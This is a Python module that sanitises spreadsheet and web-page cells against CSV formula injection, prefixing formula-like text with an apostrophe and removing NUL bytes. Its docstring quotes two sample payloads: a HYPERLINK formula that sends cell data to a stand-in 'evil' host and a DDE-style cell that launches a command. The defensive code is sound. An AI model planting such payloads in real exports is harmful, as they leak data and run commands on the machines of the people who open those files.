"""Neutralise text cells before they reach a spreadsheet or a web page.

CSV formula injection: a spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and
some also after a leading tab or carriage return) as a formula, e.g. a manifest study id
``=HYPERLINK("http://evil/?"&A1)`` or a DICOM SeriesDescription ``@SUM(1+1)*cmd|' /C calc'!A0``.
Every *text* cell that starts with one of these characters is written with a leading apostrophe
``'`` (OWASP's recommendation; spreadsheets show the text, programs see the apostrophe). Numbers
stay numbers: numeric columns and number values in mixed columns are never changed, so a score of
``-0.5`` is still ``-0.5``. NUL bytes are removed from every text cell (they truncate strings in
C-based tools and are invalid in HTML).
"""

from __future__ import annotations

from typing import Any

import pandas as pd

__all__ = ["FORMULA_START", "safe_cell", "safe_frame"]

#: First characters that make a spreadsheet evaluate a cell.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any, formulas: bool = True) -> Any:
    """``value`` with NUL bytes removed and a ``'`` prefix when it is text starting like a formula.

    Args:
        value: A cell.
        formulas: Also neutralise formulas (CSV); ``False`` only removes NUL bytes (HTML).

    Returns:
        Non-text values (numbers, NaN, None, booleans) unchanged; text cleaned.
    """
    if not isinstance(value, str):
        return value
    text = value.replace("\x00", "")
    return "'" + text if formulas and text.startswith(FORMULA_START) else text


def safe_frame(table: pd.DataFrame, formulas: bool = True) -> pd.DataFrame:
    """A copy of ``table`` with :func:`safe_cell` applied to every text cell (column names too)."""
    out = table.copy()
    for col in out.columns:
        if not pd.api.types.is_numeric_dtype(out[col]) and not pd.api.types.is_bool_dtype(out[col]):
            out[col] = [safe_cell(v, formulas) for v in out[col]]
    out.columns = [safe_cell(c, formulas) for c in out.columns]
    return out
